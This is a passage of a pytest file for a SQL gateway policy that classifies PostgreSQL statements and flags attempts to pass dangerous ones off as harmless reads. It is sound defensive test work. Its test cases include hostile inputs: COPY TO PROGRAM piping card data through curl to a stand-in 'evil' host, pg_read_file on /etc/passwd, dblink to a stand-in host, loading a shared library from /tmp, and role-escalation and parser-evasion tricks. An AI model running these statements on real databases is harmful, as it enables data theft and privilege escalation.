"""Statement facts for the policy: every class and condition, and the ways an attacker (a person or an
agent) would try to make a dangerous statement look like a harmless read. A statement the gateway cannot
read must come out opaque, never as a guess; where the owner of a name cannot be told without the catalog,
facts name every candidate."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.policy import facts as facts_module
from gateway.policy.facts import DANGEROUS_FUNCTIONS, Facts, FactsCache, statement_facts

HARMLESS_CLASSES = frozenset({"read", "utility", "transaction"})


def harmless(f: Facts) -> bool:
    """What a permissive "reads may run" rule would let through: a read/utility/transaction the gateway
    can see into, with no condition a blocking rule could catch."""
    return f.opaque is None and f.classes <= HARMLESS_CLASSES and not f.conditions


# ------------------------------------------------------------------------------------------ classes

CLASSES = [
    ("SELECT * FROM cards", {"read"}),
    ("select a, b from cards where id = 1", {"read"}),
    ("VALUES (1), (2)", {"read"}),
    ("TABLE cards", {"read"}),
    ("(SELECT 1) UNION (SELECT 2)", {"read"}),
    ("WITH x AS (SELECT 1) SELECT * FROM x", {"read"}),
    ("SELECT * FROM cards FOR UPDATE", {"read"}),
    ("INSERT INTO cards (pan) VALUES ('4111111111111111')", {"write"}),
    ("UPDATE cards SET brand = 'x' WHERE id = 1", {"write"}),
    ("DELETE FROM cards WHERE id = 1", {"write"}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", {"write"}),
    ("DELETE FROM cards WHERE id = 1 RETURNING pan", {"write", "read"}),
    ("INSERT INTO archive SELECT * FROM cards", {"write", "read"}),
    ("CREATE TABLE t (a int)", {"ddl"}),
    ("DROP TABLE cards", {"ddl"}),
    ("ALTER TABLE cards ADD COLUMN x int", {"ddl"}),
    ("TRUNCATE cards", {"ddl"}),
    ("COMMENT ON TABLE cards IS 'x'", {"ddl"}),
    ("CREATE VIEW v AS SELECT 1", {"ddl", "read"}),
    ("SELECT * INTO t FROM cards", {"ddl", "read"}),
    ("CREATE TABLE t AS SELECT * FROM cards", {"ddl", "read"}),
    ("GRANT SELECT ON cards TO bob", {"dcl"}),
    ("REVOKE ALL ON cards FROM bob", {"dcl"}),
    ("CREATE ROLE bob", {"dcl"}),
    ("ALTER ROLE bob SUPERUSER", {"dcl"}),
    ("GRANT admin TO bob", {"dcl"}),
    ("SET ROLE admin", {"dcl"}),
    ("SET SESSION AUTHORIZATION admin", {"dcl"}),
    ("SET LOCAL SESSION AUTHORIZATION admin", {"dcl"}),
    ("BEGIN", {"transaction"}),
    ("START TRANSACTION READ ONLY", {"transaction"}),
    ("COMMIT", {"transaction"}),
    ("ROLLBACK", {"transaction"}),
    ("SAVEPOINT s1", {"transaction"}),
    ("RELEASE SAVEPOINT s1", {"transaction"}),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction"}),
    ("PREPARE TRANSACTION 'gid'", {"transaction"}),
    ("SHOW search_path", {"utility"}),
    ("SET work_mem = '64MB'", {"utility"}),
    ("RESET work_mem", {"utility"}),
    ("DISCARD ALL", {"utility"}),
    ("LISTEN channel", {"utility"}),
    ("VACUUM cards", {"utility"}),
    ("ANALYZE cards", {"utility"}),
    ("CHECKPOINT", {"utility"}),
    ("LOCK TABLE cards", {"utility"}),
    ("FETCH 10 FROM c", {"utility"}),
    ("CLOSE c", {"utility"}),
    ("EXPLAIN SELECT * FROM cards", {"utility"}),
    ("EXPLAIN DELETE FROM cards", {"utility"}),
    ("COPY cards TO STDOUT", {"copy_out"}),
    ("COPY (SELECT pan FROM cards) TO STDOUT", {"copy_out"}),
    ("COPY cards FROM STDIN", {"copy_in"}),
    ("CALL refresh_stats(1)", {"function_call"}),
]


@pytest.mark.parametrize(("sql", "classes"), CLASSES)
def test_classes(sql: str, classes: set[str]) -> None:
    f = statement_facts(sql)
    assert f.opaque is None, f.opaque
    assert f.classes == classes


@pytest.mark.parametrize(
    ("sql", "command"),
    [
        ("SELECT * FROM cards", "select from cards"),
        ("/* tool */ DROP TABLE IF EXISTS cards", "drop table if"),
        ("  alter   SYSTEM set work_mem = '1GB'", "alter system set"),
        ("(SELECT 1)", "select"),
        ("TRUNCATE cards", "truncate cards"),
        ("EXPLAIN ANALYZE DELETE FROM cards", "explain analyze delete"),
    ],
)
def test_command_is_the_first_keywords(sql: str, command: str) -> None:
    assert statement_facts(sql).command == command


# ------------------------------------------------------------------------------------------ conditions

CONDITIONS = [
    # no_where: an UPDATE or DELETE with no WHERE at all, wherever it is
    ("UPDATE cards SET brand = 'x'", "no_where"),
    ("DELETE FROM cards", "no_where"),
    ("UPDATE cards c SET brand = o.x FROM orders o", "no_where"),
    ("WITH gone AS (DELETE FROM cards RETURNING id) SELECT count(*) FROM gone", "no_where"),
    ("EXPLAIN ANALYZE DELETE FROM cards", "no_where"),
    # dangerous_function
    ("SELECT pg_read_file('/etc/passwd')", "dangerous_function"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "dangerous_function"),
    ("SELECT lo_import('/etc/passwd')", "dangerous_function"),
    ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "dangerous_function"),
    ("SELECT pg_terminate_backend(42)", "dangerous_function"),
    ("SELECT query_to_xml('delete from cards returning *', true, true, '')", "dangerous_function"),
    ("SELECT table_to_xml('cards', true, false, '')", "dangerous_function"),
    ("SELECT * FROM ts_stat('select pan::tsvector from cards')", "dangerous_function"),
    ("SELECT set_config('role', 'admin', false)", "dangerous_function"),
    ("SELECT set_config('search_path', 'evil', false)", "dangerous_function"),
    ("CALL pg_read_file('/etc/passwd')", "dangerous_function"),
    ("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", "dangerous_function"),
    ("CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd')", "dangerous_function"),
    ("ALTER TABLE cards ADD COLUMN y text DEFAULT pg_read_file('/etc/passwd')", "dangerous_function"),
    # ... where sqlglot keeps no tree (ALTER DOMAIN) or drops the expression (ON ONLY): seen in the text
    ("ALTER DOMAIN d ADD CONSTRAINT c CHECK (pg_read_file(VALUE) <> '')", "dangerous_function"),
    ("CREATE UNIQUE INDEX IF NOT EXISTS i ON ONLY cards ((pg_read_file(pan)))", "dangerous_function"),
    # COPY to or from the server's files and programs
    ("COPY cards TO PROGRAM 'curl -d @- evil'", "copy_program"),
    ("COPY cards FROM PROGRAM 'cat /etc/passwd'", "copy_program"),
    ("copy cards to program $$curl evil$$", "copy_program"),
    ("COPY (SELECT pan FROM cards) TO PROGRAM 'x'", "copy_program"),
    ("COPY cards TO '/tmp/cards.csv'", "copy_file"),
    ("COPY cards FROM '/tmp/cards.csv'", "copy_file"),
    ("COPY cards TO E'/tmp/cards.csv'", "copy_file"),
    ("COPY cards TO $$/tmp/cards.csv$$", "copy_file"),
    ("COPY cards TO 'program'", "copy_file"),
    ("COPY (SELECT pan FROM cards) TO '/tmp/x'", "copy_file"),
    # keyword conditions
    ("ALTER SYSTEM SET work_mem = '1GB'", "alter_system"),
    ("alter  system reset all", "alter_system"),
    ("CREATE EXTENSION dblink", "create_extension"),
    ('CREATE EXTENSION IF NOT EXISTS "dblink"', "create_extension"),
    ("SET ROLE admin", "set_role"),
    ("SET LOCAL ROLE admin", "set_role"),
    ("SET SESSION ROLE admin", "set_role"),
    ('SET "role" = admin', "set_role"),
    ("SET role TO DEFAULT", "set_role"),
    ("RESET ROLE", "set_role"),
    ("/* x */ set/**/role admin", "set_role"),
    ("SET SESSION AUTHORIZATION admin", "set_session_authorization"),
    ("SET LOCAL SESSION AUTHORIZATION admin", "set_session_authorization"),
    ("SET SESSION SESSION AUTHORIZATION admin", "set_session_authorization"),
    ("SET session_authorization = admin", "set_session_authorization"),
    ('SET LOCAL "session_authorization" TO admin', "set_session_authorization"),
    ("RESET SESSION AUTHORIZATION", "set_session_authorization"),
    ("SET search_path = evil, public", "search_path"),
    ("SET LOCAL search_path TO evil", "search_path"),
    ('SET "search_path" TO evil', "search_path"),
    ("SET SCHEMA 'evil'", "search_path"),
    ("RESET search_path", "search_path"),
]


@pytest.mark.parametrize(("sql", "condition"), CONDITIONS)
def test_conditions(sql: str, condition: str) -> None:
    f = statement_facts(sql)
    assert f.opaque is None, f.opaque
    assert condition in f.conditions


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE cards SET brand = 'x' WHERE id = 1",
        "DELETE FROM cards WHERE id = 1",
        "SELECT * FROM cards",
        "COPY cards TO STDOUT",
        "COPY cards FROM STDIN WITH (FORMAT csv)",
        "COPY cards TO stdout",
        "SELECT current_setting('role')",
        "SELECT lower(pan) FROM cards",
        "SELECT pg_read_file FROM t",  # a column of that name, not a call
        "SET work_mem = '64MB'",
        "SHOW role",
        "CREATE TABLE t (a int)",
        "ALTER DOMAIN d ADD CONSTRAINT c CHECK (VALUE <> '')",
        "SELECT 'pg_read_file(' FROM cards",
    ],
)
def test_no_condition(sql: str) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.conditions == frozenset()


@pytest.mark.parametrize("sql", ["UPDATE cards SET brand = 'x' WHERE true", "DELETE FROM cards WHERE 1 = 1"])
def test_no_where_only_means_a_missing_where(sql: str) -> None:
    # A tautological WHERE still touches every row: no_where is the missing clause, nothing more. A
    # policy that must stop mass updates needs a person (require_approval) on writes, not this condition.
    assert "no_where" not in statement_facts(sql).conditions


def test_set_config_is_a_dangerous_function_not_set_role() -> None:
    # set_config('role', ...) changes the role from inside a query: the keyword conditions cannot see it
    # (its argument is a literal), the function condition does.
    f = statement_facts("SELECT set_config('role', 'admin', false)")
    assert f.conditions == {"dangerous_function"}


@pytest.mark.parametrize("name", sorted(DANGEROUS_FUNCTIONS))
def test_every_dangerous_function_is_seen(name: str) -> None:
    for sql in (f"SELECT {name}('x')", f"SELECT pg_catalog.\"{name}\"('x')", f"SELECT * FROM {name}('x')"):
        f = statement_facts(sql)
        assert f.opaque is None, (sql, f.opaque)
        assert "dangerous_function" in f.conditions, sql


# ------------------------------------------------------------------------------------------ bypasses

PG_READ = "pg_read_file('/etc/passwd')"

BYPASSES = [
    # DML in a CTE, in every statement shape that carries one
    "WITH x AS (DELETE FROM cards RETURNING *) SELECT * FROM x",
    "WITH x AS (UPDATE cards SET brand = 'x' WHERE id = 1 RETURNING 1) SELECT 1",
    "WITH x AS (INSERT INTO t SELECT * FROM cards RETURNING 1) SELECT 1",
    "WITH a AS (SELECT 1), b AS (DELETE FROM cards WHERE id = 1 RETURNING 1) SELECT * FROM a",
    "WITH x AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1",
    # EXPLAIN ANALYZE runs what it explains, however it is spelled
    "EXPLAIN ANALYZE DELETE FROM cards",
    "EXPLAIN ANALYSE DELETE FROM cards",
    "explain analyze delete from cards",
    "ExPlAiN AnAlYzE DeLeTe FROM cards",
    "EXPLAIN (ANALYZE) DELETE FROM cards",
    "EXPLAIN (ANALYSE) DELETE FROM cards",
    "EXPLAIN (ANALYZE true, FORMAT json) DELETE FROM cards",
    "EXPLAIN (FORMAT json, ANALYZE) DELETE FROM cards",
    "EXPLAIN ( analyze on, buffers ) DELETE FROM cards",
    'EXPLAIN ("analyze") DELETE FROM cards',
    "EXPLAIN (analyze/**/) DELETE FROM cards",
    "EXPLAIN\tANALYZE\nDELETE FROM cards",
    "EXPLAIN ANALYZE VERBOSE DELETE FROM cards",
    "EXPLAIN ANALYZE -- note\nDELETE FROM cards",
    "EXPLAIN ANALYZE /* note */ DELETE FROM cards",
    "/* hi */ EXPLAIN ANALYZE DELETE FROM cards",
    "-- hi\nEXPLAIN ANALYZE DELETE FROM cards",
    "EXPLAIN/**/ANALYZE DELETE FROM cards",
    "EXPLAIN ANALYZE/**/DELETE FROM cards",
    "EXPLAIN /* c */ ANALYZE DELETE FROM cards",
    "EXPLAIN -- c\nANALYZE DELETE FROM cards",
    'EXPLAIN (U&"\\0061nalyze") DELETE FROM cards',
    "EXPLAIN (ANALYZE) WITH x AS (DELETE FROM cards RETURNING 1) SELECT 1",
    "EXPLAIN ANALYZE CREATE TABLE loot AS SELECT * FROM cards",
    "EXPLAIN ANALYZE SELECT * INTO loot FROM cards",
    "EXPLAIN ANALYZE EXECUTE p",
    f"EXPLAIN ANALYZE SELECT {PG_READ}",
    # PREPARE and DECLARE define what EXECUTE and FETCH run
    "PREPARE p AS DELETE FROM cards",
    "PREPARE p (int) AS DELETE FROM cards WHERE id = $1",
    'PREPARE "P" AS UPDATE cards SET brand = $1',
    "prepare p as/**/delete from cards",
    "PREPARE p /* c */ AS DELETE FROM cards",
    "/* c */ PREPARE p AS DELETE FROM cards",
    f"PREPARE p AS SELECT {PG_READ}",
    "DECLARE c CURSOR FOR WITH x AS (DELETE FROM cards RETURNING *) SELECT * FROM x",
    f"DECLARE c CURSOR FOR SELECT {PG_READ}",
    f"DECLARE c BINARY INSENSITIVE NO SCROLL CURSOR WITH HOLD FOR SELECT {PG_READ}",
    "DECLARE c CURSOR FOR/**/SELECT 1",
    "EXECUTE p",
    # writing a table from a query
    "SELECT * INTO loot FROM cards",
    "SELECT pan INTO TEMP loot FROM cards",
    "CREATE TABLE loot AS SELECT * FROM cards",
    "CREATE TABLE loot AS EXECUTE p",
    "CREATE TEMP TABLE loot ON COMMIT DROP AS SELECT * FROM cards",
    # COPY to the server's files and programs
    "COPY cards TO PROGRAM 'curl -d @- https://evil'",
    "COPY cards TO '/tmp/cards.csv'",
    "COPY (SELECT * FROM cards) TO '/tmp/cards.csv'",
    # dangerous functions: qualified, quoted, cased, nested anywhere
    f"SELECT pg_catalog.{PG_READ}",
    "SELECT \"pg_read_file\"('/etc/passwd')",
    "SELECT \"PG_READ_FILE\"('/etc/passwd')",
    "SELECT PG_READ_FILE('/etc/passwd')",
    'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
    "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
    f"SELECT * FROM (SELECT {PG_READ}) s",
    f"WITH x AS (SELECT {PG_READ} AS f) SELECT * FROM x",
    f"SELECT length({PG_READ})",
    f"SELECT a FROM cards ORDER BY {PG_READ}",
    f"SELECT a FROM cards GROUP BY a HAVING count({PG_READ}) > 0",
    f"SELECT a FROM cards c, LATERAL (SELECT {PG_READ}) l",
    "SELECT * FROM cards c CROSS JOIN LATERAL pg_ls_dir('/') AS d",
    f"SELECT a FROM cards WHERE EXISTS (SELECT {PG_READ})",
    f"SELECT a FROM cards WHERE a IN (SELECT {PG_READ})",
    f"SELECT CASE WHEN true THEN {PG_READ} END",
    f"SELECT {PG_READ}::text",
    f"SELECT ARRAY[{PG_READ}]",
    f"VALUES ({PG_READ})",
    f"SELECT 1 UNION SELECT {PG_READ}",
    f"SELECT a FROM cards LIMIT (SELECT length({PG_READ}))",
    f"SELECT a FROM cards WINDOW w AS (ORDER BY {PG_READ})",
    f"SELECT sum(a) OVER (PARTITION BY {PG_READ}) FROM cards",
    f"SELECT count(*) FILTER (WHERE {PG_READ} = 'x') FROM cards",
    f"SELECT * FROM ROWS FROM ({PG_READ})",
    f"SELECT {PG_READ} AS harmless",
    "SELECT pg_read_file(filename => '/etc/passwd')",
    f"CALL do_nothing({PG_READ})",
    # changing who the session is
    "SET ROLE admin",
    "SET LOCAL ROLE admin",
    "SET LOCAL SESSION AUTHORIZATION admin",
    "SET SESSION SESSION AUTHORIZATION admin",
    "RESET ROLE",
    "SELECT set_config('role', 'admin', false)",
    "SELECT set_config('session_authorization', 'admin', true)",
    # changing what unqualified names mean, or how the server reads text
    "SET search_path = evil",
    "SET SCHEMA 'evil'",
    "SET standard_conforming_strings = off",
    "SET LOCAL standard_conforming_strings TO off",
    "SELECT 'a\\', 1 --', pg_read_file('/etc/passwd')",
    "SET client_encoding = 'SJIS'",
    "SET NAMES 'SJIS'",
    "RESET client_encoding",
    # code the gateway cannot see
    "DO $$ BEGIN DELETE FROM cards; END $$",
    "DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$",
    "LOAD '/tmp/evil.so'",
    "BEGIN; DELETE FROM cards",
    "SELECT 1 FROM cards WHERE pan = 'a\udcff'",  # not UTF-8: read as the server would not
]


@pytest.mark.parametrize("sql", BYPASSES)
def test_not_a_harmless_read(sql: str) -> None:
    assert not harmless(statement_facts(sql))


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN ANALYZE DELETE FROM cards",
        "EXPLAIN ANALYSE DELETE FROM cards",
        "ExPlAiN AnAlYzE DeLeTe FROM cards",
        "EXPLAIN (ANALYZE) DELETE FROM cards",
        "EXPLAIN (FORMAT json, ANALYZE) DELETE FROM cards",
        'EXPLAIN ("ANALYZE") DELETE FROM cards',
        "EXPLAIN ANALYZE /* note */ DELETE FROM cards",
        "PREPARE p AS DELETE FROM cards",
        "DECLARE c CURSOR FOR WITH x AS (DELETE FROM cards RETURNING *) SELECT * FROM x",
        "WITH x AS (DELETE FROM cards RETURNING *) SELECT * FROM x",
    ],
)
def test_wrapped_and_hidden_deletes_are_writes_of_the_table(sql: str) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert "write" in f.classes
    assert "public.cards" in f.tables
    assert "no_where" in f.conditions


@pytest.mark.parametrize(
    "sql",
    [
        "/* hi */ EXPLAIN ANALYZE DELETE FROM cards",
        "EXPLAIN/**/ANALYZE DELETE FROM cards",
        "EXPLAIN ANALYZE/**/DELETE FROM cards",
        "EXPLAIN /* c */ ANALYZE DELETE FROM cards",
        "EXPLAIN VERBOSE/**/DELETE FROM cards",
        "PREPARE p /* c */ AS DELETE FROM cards",
        "prepare p as/**/delete from cards",
        "DECLARE c CURSOR FOR/**/SELECT 1",
        "DECLARE c /* c */ CURSOR FOR SELECT 1",
        "EXPLAIN (SELECT 1)",  # the parenthesis is taken for options: nothing left to explain
    ],
)
def test_a_wrapper_whose_statement_cannot_be_found_is_opaque(sql: str) -> None:
    f = statement_facts(sql)
    assert f.opaque is not None
    assert f.prepares is None


def test_plain_explain_only_plans() -> None:
    f = statement_facts("EXPLAIN DELETE FROM cards")
    assert f.classes == {"utility"}
    assert f.tables == {"public.cards"}
    assert f.row_limit == 0
    assert statement_facts("EXPLAIN (FORMAT json, COSTS off) SELECT pan FROM cards").classes == {"utility"}


def test_explain_analyze_of_a_read_is_a_read() -> None:
    f = statement_facts("EXPLAIN ANALYZE SELECT pan FROM cards")
    assert f.classes == {"read"}
    assert f.columns == {"public.cards.pan"}


def test_prepare_names_its_statement_as_the_server_does() -> None:
    assert statement_facts("PREPARE Fetch_Cards AS SELECT * FROM cards").prepares == "fetch_cards"
    assert statement_facts('PREPARE "P" AS DELETE FROM cards').prepares == "P"
    assert statement_facts("PREPARE p (int, text) AS SELECT $1, $2").prepares == "p"
    assert statement_facts("EXECUTE P").executes == "p"
    assert statement_facts('EXECUTE "P"').executes == "P"
    assert statement_facts("EXECUTE p(1, 'x')").executes == "p"
    f = statement_facts("EXECUTE p")
    assert f.opaque is not None  # until the session resolves it to what it PREPAREd


def test_prepare_carries_the_facts_of_its_statement() -> None:
    f = statement_facts("PREPARE p AS SELECT pan FROM cards WHERE id = $1 LIMIT 5")
    assert f.classes == {"read"}
    assert f.columns == {"public.cards.pan", "public.cards.id"}
    assert f.row_limit == 5
    assert f.command == "prepare p as"


def test_declare_carries_the_facts_of_its_query() -> None:
    f = statement_facts("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT * FROM cards LIMIT 50")
    assert f.classes == {"read"}
    assert f.tables == {"public.cards"}
    assert f.row_limit == 50
    assert f.prepares is None


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * INTO loot FROM cards",
        "CREATE TABLE loot AS SELECT * FROM cards",
        "CREATE MATERIALIZED VIEW loot AS SELECT * FROM cards",
        "INSERT INTO loot SELECT * FROM cards",
    ],
)
def test_copying_a_table_into_another_reads_it(sql: str) -> None:
    # Else "agents read cards only with a small LIMIT" is one statement away from moot: copy, then read
    # the copy.
    f = statement_facts(sql)
    assert "read" in f.classes
    assert "public.cards" in f.tables
    assert "public.cards.*" in f.columns
    assert f.row_limit is None


def test_create_table_as_execute_is_opaque() -> None:
    # AS EXECUTE runs a statement PREPAREd earlier: what it reads is not in this text.
    assert statement_facts("CREATE TABLE loot AS EXECUTE p").opaque is not None


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT $$ ', pg_read_file('/x') -- $$",
        "SELECT 1 /* /* */ , pg_read_file('/x') */",  # comments nest
        "SELECT 1 -- x\f, pg_read_file('/x')",  # only \n and \r end a -- comment
        "SELECT 1 -- comment ; DELETE FROM cards",
    ],
)
def test_code_inside_literals_and_comments_is_not_code(sql: str) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.classes == {"read"}
    assert f.conditions == frozenset()


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT E'\\'', pg_read_file('/x') --'",
        "SELECT $a$ x $a$, pg_read_file('/x')",
        "SELECT $A$ x $a$ y $A$, pg_read_file('/x')",
        "SELECT 1 /* /* */ */ , pg_read_file('/x')",
        "SELECT 'it''s', pg_read_file('/x')",
        "SELECT U&'\\0041' UESCAPE '!', pg_read_file('/x')",
    ],
)
def test_code_after_tricky_literals_is_code(sql: str) -> None:
    assert "dangerous_function" in statement_facts(sql).conditions


@pytest.mark.parametrize(
    "sql",
    [
        "SET standard_conforming_strings = off",
        # pg_read_file runs where standard_conforming_strings is off (a role default will do), else it is
        # in a comment; the gateway cannot tell which, so neither reading is taken
        "SELECT 'a\\', 1 --', pg_read_file('/x')",
        "SELECT * FROM cards WHERE brand LIKE 'a\\_%'",
        "SET SESSION standard_conforming_strings TO off",
        'SET "standard_conforming_strings" = off',
        "RESET standard_conforming_strings",
        "SET client_encoding TO 'SJIS'",
        "SET NAMES 'BIG5'",
        'SELECT U&"\\0070an" FROM cards',
        'SELECT * FROM U&"\\0063ards"',
        "SELECT 1 FROM cards WHERE pan = '\udc83\\'",
    ],
)
def test_what_the_gateway_may_read_otherwise_than_the_server_is_opaque(sql: str) -> None:
    # After SET standard_conforming_strings = off, 'a\' is no longer a whole string; in SJIS a backslash can
    # be the second byte of a character; U&"\0070an" is pan. Opaque: the policy's opaque_action decides.
    assert statement_facts(sql).opaque is not None


# ------------------------------------------------------------------------------------------ names

TABLES = [
    ("SELECT pan FROM cards", {"public.cards"}),
    ('SELECT pan FROM "Cards"', {"public.cards"}),
    ('SELECT pan FROM public."cards"', {"public.cards"}),
    ("SELECT pan FROM PUBLIC.CARDS", {"public.cards"}),
    ("SELECT pan FROM billing.cards", {"billing.cards"}),
    ("SELECT pan FROM mydb.billing.cards", {"billing.cards"}),
    ("SELECT c.pan FROM cards AS c JOIN orders o ON o.card_id = c.id", {"public.cards", "public.orders"}),
    ("SELECT pan FROM cards WHERE id IN (SELECT card_id FROM orders)", {"public.cards", "public.orders"}),
    ("SELECT * FROM ONLY cards", {"public.cards"}),
    ("INSERT INTO cards (pan) VALUES ('x')", {"public.cards"}),
    (
        "UPDATE cards SET brand = 'x' FROM orders WHERE orders.id = cards.id",
        {"public.cards", "public.orders"},
    ),
    ("DELETE FROM cards USING orders WHERE orders.id = cards.id", {"public.cards", "public.orders"}),
    ("WITH x AS (SELECT * FROM cards) SELECT * FROM x", {"public.cards"}),
    ("WITH x AS (SELECT 1) SELECT * FROM public.x", {"public.x"}),
    ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", set()),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", set()),
    # a CTE cannot see itself (without RECURSIVE), nor the CTEs after it, nor into another scope
    ("WITH cards AS (SELECT * FROM cards) SELECT * FROM cards", {"public.cards"}),
    ("WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", {"public.a"}),
    ("WITH RECURSIVE b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", set()),
    ("SELECT * FROM cards WHERE EXISTS (WITH cards AS (SELECT 1) SELECT * FROM cards)", {"public.cards"}),
    ("SELECT * FROM (WITH y AS (SELECT 1) SELECT * FROM y) s, y", {"public.y"}),
    ("(WITH cards AS (SELECT 1) SELECT * FROM cards) UNION ALL SELECT * FROM cards", {"public.cards"}),
    ("WITH cards AS (SELECT 1) SELECT * FROM cards UNION SELECT * FROM cards", set()),
    # what INSERT, UPDATE, DELETE, MERGE and COPY write is a table even where a CTE has its name
    ("WITH cards AS (SELECT 1) DELETE FROM cards", {"public.cards"}),
    ("WITH cards AS (SELECT 1) UPDATE cards SET pan = 'x' WHERE id = 1", {"public.cards"}),
    ("WITH cards AS (SELECT 1) INSERT INTO cards SELECT * FROM cards", {"public.cards"}),
    ("WITH cards AS (SELECT 1) INSERT INTO cards (pan) VALUES ('x')", {"public.cards"}),
    (
        "WITH cards AS (SELECT 1) MERGE INTO cards USING cards s ON true WHEN MATCHED THEN DELETE",
        {"public.cards"},
    ),
    ("WITH x AS (SELECT 1) DELETE FROM cards USING x WHERE cards.id = x.id", {"public.cards"}),
    ("COPY billing.cards TO STDOUT", {"billing.cards"}),
    ("SELECT * FROM pg_ls_dir('/')", set()),
]


@pytest.mark.parametrize(("sql", "tables"), TABLES)
def test_tables(sql: str, tables: set[str]) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.tables == tables


def test_tables_of_keyword_read_ddl() -> None:
    # sqlglot reads no structure into these: the lexer's object names stand, unqualified as public.
    f = statement_facts("REASSIGN OWNED BY bob TO alice")
    assert f.classes == {"dcl"}
    assert f.opaque is None
    assert statement_facts("SECURITY LABEL ON TABLE cards IS 'x'").tables == {"public.cards"}


COLUMNS = [
    ("SELECT pan FROM cards", {"public.cards.pan"}),
    ('SELECT "PAN" FROM cards', {"public.cards.pan"}),
    ("SELECT c.pan FROM cards c", {"public.cards.pan"}),
    ("SELECT cards.pan FROM public.cards", {"public.cards.pan"}),
    ("SELECT public.cards.pan FROM public.cards", {"public.cards.pan"}),
    ("SELECT * FROM cards", {"public.cards.*"}),
    ("TABLE cards", {"public.cards.*"}),
    ("SELECT count(*) FROM billing.cards", {"billing.cards.*"}),
    ("SELECT x.pan FROM (SELECT pan FROM cards) x", {"public.cards.pan"}),
    ("UPDATE cards SET pan = 'x' WHERE id = 1", {"public.cards.pan", "public.cards.id"}),
    ("DELETE FROM cards WHERE id = 1 RETURNING pan", {"public.cards.pan", "public.cards.id"}),
    ("INSERT INTO cards (pan, exp) VALUES ('x', 'y')", {"public.cards.pan", "public.cards.exp"}),
    ("INSERT INTO cards VALUES ('x')", {"public.cards.*"}),
    ("COPY cards TO STDOUT", {"public.cards.*"}),
    ("COPY cards (pan) TO STDOUT", {"public.cards.pan"}),
    ("COPY cards FROM STDIN", {"public.cards.*"}),
    # whole-row references are every column
    ("SELECT c FROM cards c", {"public.cards.*", "public.cards.c"}),
    ("SELECT cards FROM cards", {"public.cards.*", "public.cards.cards"}),
    ("SELECT row_to_json(c) FROM cards c", {"public.cards.*", "public.cards.c"}),
    ("SELECT (c).pan FROM cards c", {"public.cards.*", "public.cards.c"}),
    # a column alias list renames the table's columns: any of them may be behind the new names
    ("SELECT p FROM cards AS c(p)", {"public.cards.*", "public.cards.p"}),
]


@pytest.mark.parametrize(("sql", "columns"), COLUMNS)
def test_columns(sql: str, columns: set[str]) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.columns == columns


def test_qualified_columns_resolve_to_their_table() -> None:
    f = statement_facts("SELECT c.pan, o.total FROM cards c JOIN billing.orders o ON o.card_id = c.id")
    assert f.columns == {
        "public.cards.pan",
        "public.cards.id",
        "billing.orders.total",
        "billing.orders.card_id",
    }


def test_unqualified_columns_belong_to_every_table_they_could() -> None:
    # Without the catalog, pan could be a column of either table (and a correlated subquery sees the outer
    # one): the facts name both, so a rule on cards.pan still applies.
    f = statement_facts("SELECT pan, total FROM cards c JOIN orders o ON o.card_id = c.id")
    assert {"public.cards.pan", "public.orders.pan", "public.cards.total"} <= f.columns
    f = statement_facts("SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM cards WHERE pan = '4111')")
    assert {"public.cards.pan", "public.orders.pan"} <= f.columns
    f = statement_facts("SELECT 1 FROM cards JOIN orders USING (pan)")
    assert {"public.cards.pan", "public.orders.pan"} <= f.columns


def test_an_alias_reused_in_another_scope_resolves_to_both_tables() -> None:
    # c is cards outside and orders inside: c.pan must not be read as orders.pan only.
    f = statement_facts("SELECT c.pan FROM cards c WHERE EXISTS (SELECT 1 FROM orders c WHERE c.id = 1)")
    assert "public.cards.pan" in f.columns
    f = statement_facts("SELECT c.pan FROM cards c, LATERAL (SELECT 1 FROM orders c) x")
    assert "public.cards.pan" in f.columns


def test_star_gives_every_table_star() -> None:
    f = statement_facts("SELECT * FROM cards c JOIN billing.orders o USING (id)")
    assert {"public.cards.*", "billing.orders.*"} <= f.columns


FUNCTIONS = [
    ("SELECT lower(pan) FROM cards", {"lower"}),
    ("SELECT pg_catalog.lower(pan) FROM cards", {"pg_catalog.lower"}),
    ("SELECT public.mask_pan(pan) FROM cards", {"public.mask_pan"}),
    ('SELECT "Billing"."Fn"(1)', {"billing.fn"}),
    ("SELECT mydb.billing.fn(1)", {"billing.fn"}),
    ("SELECT now()", {"now"}),  # as written: sqlglot calls it CURRENT_TIMESTAMP
    ("SELECT date_trunc('day', now())", {"date_trunc", "now"}),
    ("SELECT * FROM generate_series(1, 3)", {"generate_series"}),
    ("CALL refresh_stats(1)", {"refresh_stats"}),
    ("CALL public.refresh_stats()", {"public.refresh_stats"}),
    ('CALL "Ops"."Refresh"()', {"ops.refresh"}),
]


@pytest.mark.parametrize(("sql", "functions"), FUNCTIONS)
def test_functions_by_the_name_they_are_called(sql: str, functions: set[str]) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.functions == functions


def test_call_arguments_are_read() -> None:
